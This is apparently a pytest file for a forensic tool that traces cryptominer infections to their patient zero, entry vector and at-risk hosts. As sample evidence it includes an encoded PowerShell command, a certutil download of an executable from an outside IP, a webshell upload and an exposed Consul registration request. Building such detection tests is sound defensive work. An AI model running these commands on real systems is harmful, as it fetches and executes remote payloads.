"""Patient zero, entry vectors and the blast radius (at-risk hosts)."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

from deminer.case import Case
from deminer.correlate import correlate
from deminer.scenarios import hives as g
from deminer.sources.ingest import ingest
from tests.correlate.builders import OUTSIDE, add, at, brute_success, finding, host, miner
from tests.hivex import skip_without_hivex


def _process(case: Case, name: str, ts: dt.datetime, parent: str, image: str, command: str = "") -> None:
    case.add("events", [{"host": name, "ts": ts, "event": "process_start", "process": image,
                         "command": command, "channel": "Microsoft-Windows-Sysmon/Operational",
                         "event_id": 1, "source": "Sysmon.evtx", "source_line": 77,
                         "data": json.dumps({"parent_process": parent})}])


def test_patient_zero_is_the_earliest_root_and_its_entry_is_named() -> None:
    with Case(None) as case:
        host(case, "web1", "10.0.0.5", collected=at(6000))
        host(case, "db1", "10.0.0.9", collected=at(6000))
        ids = add(case, brute_success("web1", OUTSIDE, at(10)), miner("web1", at(12)),
                  brute_success("db1", "10.0.0.5", at(30)))
        out = correlate(case)
        assert out.patient_zero == ["web1"] and out.entry_vector == "brute_force"
        assert out.entries["web1"].findings == (ids[0],)
        assert out.explanations[0] == (
            "patient zero web1: the earliest infected host(s) with no inbound infection edge, infected at "
            f"2024-03-30 08:10:00 UTC; entry brute_force into web1: initial_access.ssh_brute_force_success "
            f"[{ids[0]}] from {OUTSIDE} at 2024-03-30 08:10:00 UTC")
        rows = {r["host"]: r for r in case.query("SELECT * FROM host_verdicts")}
        assert rows["web1"]["patient_zero"] and rows["web1"]["entry_vector"] == "brute_force"
        assert not rows["db1"]["patient_zero"] and rows["db1"]["entry_vector"] == "lateral"


def test_web_and_service_entries() -> None:
    with Case(None) as case:
        shell = finding("persistence.webshell_upload", "web1", at(10), source__ip=OUTSIDE,
                        url__path="/uploads/x.php")
        scan = finding("initial_access.web_scanning", "web1", at(2), severity="medium", source__ip=OUTSIDE)
        consul = finding("initial_access.web_exploit_request", "consul1", at(20), source__ip=OUTSIDE, ok=1,
                         target="consul_service_register")
        refused = finding("initial_access.web_exploit_request", "app1", at(5), source__ip=OUTSIDE, ok=0,
                          target="thinkphp_rce", severity="medium")
        host(case, "app1", collected=at(6000))
        ids = add(case, shell, scan, consul, refused, miner("consul1", at(21)), miner("app1", at(30)))
        out = correlate(case)
        assert out.patient_zero == ["web1"] and out.entry_vector == "web_exploit"
        assert out.entries["web1"].findings == (ids[0],)
        assert out.entries["consul1"].vector == "service_rce"
        app1 = out.entries["app1"]
        assert app1.vector == "unknown" and "no web exploit, exposed-service" in app1.reason
        assert app1.reason.endswith("missing: no auth log")
        assert out.verdict("consul1").missing == ["only network sightings"]  # type: ignore[union-attr]


def test_phishing_and_poisoned_update_from_process_parents() -> None:
    with Case(None) as case:
        case.add("events", [{"host": h, "ts": at(0), "event": "logon_success", "channel": "Security"}
                            for h in ("ws1", "ws2", "ws3")])
        _process(case, "ws1", at(9), r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                 r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -enc SQBFAFgA")
        _process(case, "ws2", at(8), r"C:\Program Files (x86)\Vendor\AutoUpdate.exe",
                 r"C:\Users\Public\svchost.exe")
        # Windows Update starting a program is not a poisoned third-party update.
        _process(case, "ws3", at(8), r"C:\Windows\System32\wuauclt.exe", r"C:\Windows\Temp\x.exe")
        add(case, *(finding("impact.win_miner_execution", h, at(10), severity="critical")
                    for h in ("ws1", "ws2", "ws3")))
        out = correlate(case)
        assert sorted(out.patient_zero) == ["ws1", "ws2", "ws3"]
        assert {h: e.vector for h, e in out.entries.items()} == {
            "ws1": "phishing", "ws2": "poisoned_update", "ws3": "unknown"}
        phish = out.entries["ws1"].reason
        assert "chrome.exe started" in phish and "Sysmon.evtx:77" in phish


def test_usb_arrival_before_a_wannamine_infection_through_real_hives(tmp_path: Path) -> None:
    # Seed case 10: the teacher's PC shows a USB stick 10 minutes before WannaMine's LastBackup.
    skip_without_hivex()
    teacher, pupil = tmp_path / "pc18", tmp_path / "pc19"
    stick = "ControlSet001\\Enum\\USBSTOR\\Disk&Ven_Generic&Prod_Flash_Disk&Rev_8.07\\6&2c5c8a7f&0"
    g.write_hive(_mk(teacher) / "SYSTEM", "SYSTEM",
                 [*g.system_keys("PC-TEACHER"), g.Key(stick, [], g.T_INFECT - dt.timedelta(minutes=10))])
    g.write_hive(teacher / "SOFTWARE", "SOFTWARE", g.software_keys())
    g.write_hive(_mk(pupil) / "SYSTEM", "SYSTEM", g.system_keys("PC-PUPIL"))
    with Case(None) as case:
        ingest(case, [teacher, pupil])
        case.add("events", [{"host": "pc-pupil", "ts": g.T_INFECT + dt.timedelta(hours=1),
                             "event": "registry_value", "program": "registry", "source": "pupil SOFTWARE",
                             "data": '{"key": "NetworkPlatform", "value": "LastBackup"}'}])
        out = correlate(case)
        assert [v.host for v in out.infected] == ["pc-teacher", "pc-pupil"]
        assert out.patient_zero == ["pc-teacher"] and out.entry_vector == "usb"
        assert out.entries["pc-teacher"].ts == g.T_INFECT - dt.timedelta(minutes=10)
        assert "USB storage" in out.entries["pc-teacher"].reason
        teacher_v = out.verdict("pc-teacher")
        assert teacher_v and teacher_v.infected_at == g.T_INFECT
        assert teacher_v.at_risk == []                    # KB4012212 is installed
        pupil_v = out.verdict("pc-pupil")
        assert pupil_v and pupil_v.entry_vector == "unknown" and "no patch list" in pupil_v.missing


def _mk(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def test_blast_radius() -> None:
    with Case(None) as case:
        host(case, "web1", "10.0.0.5", collected=at(6000))
        host(case, "db1", "10.0.0.9", collected=at(6000))
        host(case, "app1", "10.0.0.7", collected=at(6000))
        host(case, "ws1", collected=at(6000), os="Windows 7 Professional")
        case.add("events", [{"host": "ws1", "ts": at(1), "event": "hotfix_installed", "program": "registry",
                             "data": json.dumps({"kb": kb})} for kb in ("KB2479943", "KB976902")])
        case.add("events", [{"host": "ws1", "ts": at(1), "event": "logon_success", "channel": "Security"}])
        case.add("flows", [{"ts": at(20), "src_ip": "10.0.0.5", "src_port": 40000 + i, "dst_ip": dst,
                            "dst_port": port, "proto": "tcp", "state": state}
                           for i, (dst, port, state) in enumerate([
                               ("10.0.0.7", 6379, "SF"), ("10.0.0.77", 445, "SF"), ("10.0.0.78", 445, "S0"),
                               ("198.51.100.3", 445, "SF"), ("10.0.0.9", 443, "SF")])])
        case.add("ssh_keys", [{"host": "web1", "kind": "private", "path": "/root/.ssh/id_ed25519",
                               "fingerprint": "SHA256:abc"},
                              {"host": "db1", "kind": "authorized", "path": "/root/.ssh/authorized_keys",
                               "fingerprint": "SHA256:abc"}])
        case.add("accounts", [{"host": "db1", "user": "root"}, {"host": "app1", "user": "deploy"}])
        add(case, brute_success("web1", OUTSIDE, at(10)))
        out = correlate(case)
        risk = {v.host: v.at_risk for v in out.verdicts}
        assert risk["app1"] == ["reachable from infected web1 on port 6379"]
        assert risk["db1"] == ["authorizes key SHA256:abc… stored on infected web1",
                               "has account root, guessed on infected web1 (shared password?)"]
        assert risk["ws1"] == ["no MS17-010 update among 2 installed updates"]
        assert risk["10.0.0.77"] == ["reachable from infected web1 on port 445"]
        assert "10.0.0.78" not in risk and "198.51.100.3" not in risk      # unanswered / not internal
        assert risk["web1"] == []
        assert [v.host for v in out.at_risk] == ["10.0.0.77", "app1", "db1", "ws1"]
        stored = case.query("SELECT at_risk FROM host_verdicts WHERE host = 'db1'")[0]["at_risk"]
        assert stored == ("authorizes key SHA256:abc… stored on infected web1; "
                          "has account root, guessed on infected web1 (shared password?)")


def test_exposed_services_exploited_from_outside() -> None:
    with Case(None) as case:
        # gw: EternalBlue from the internet, its payload in lsass.exe (seed cases 4 and 5).
        case.add("events", [{"host": "gw", "ts": at(0), "event": "logon_success", "channel": "Security"}])
        _process(case, "gw", at(10), r"C:\Windows\System32\lsass.exe", r"C:\Windows\System32\certutil.exe",
                 "certutil -urlcache -split -f http://198.51.100.150/dl.exe")
        # consul: the sensor logged the registration from outside; the miner is the agent's child.
        host(case, "consul", "10.6.1.10", collected=at(6000))
        case.add("flows", [{"ts": at(19), "src_ip": OUTSIDE, "src_port": 40000, "dst_ip": "10.6.1.10",
                            "dst_port": 8500, "app": "http", "source": "http.log", "source_line": 4,
                            "data": json.dumps({"method": "PUT", "uri": "/v1/agent/service/register",
                                                "status": 200})}])
        # www: the dropper is a child of php-fpm (the collection's process tree), found by a rule.
        host(case, "www", "10.7.1.10", collected=at(6000))
        case.add("processes", [
            {"host": "www", "ts": at(6000), "pid": 720, "ppid": 710, "name": "php-fpm8.1",
             "exe": "/usr/sbin/php-fpm8.1", "source": "/proc/720", "started": at(-9000)},
            {"host": "www", "ts": at(6000), "pid": 5300, "ppid": 720, "name": "systemd-logind-h",
             "exe": "/usr/lib/systemd/systemd-logind-helper", "source": "/proc/5300", "started": at(31)}])
        add(case, finding("execution.win_random_service_binary", "gw", at(11)), miner("consul", at(20)),
            miner("www", at(31), pid=5300))
        out = correlate(case)
        vectors = {h: e.vector for h, e in out.entries.items()}
        assert vectors == {"gw": "service_rce", "consul": "service_rce", "www": "web_exploit"}
        assert "lsass.exe started" in out.entries["gw"].reason
        assert "Consul service/check registration request PUT /v1/agent/service/register from " \
               f"{OUTSIDE}" in out.entries["consul"].reason
        www = out.entries["www"].reason
        assert "/usr/sbin/php-fpm8.1 started /usr/lib/systemd/systemd-logind-helper" in www
        assert out.patient_zero == ["gw"]
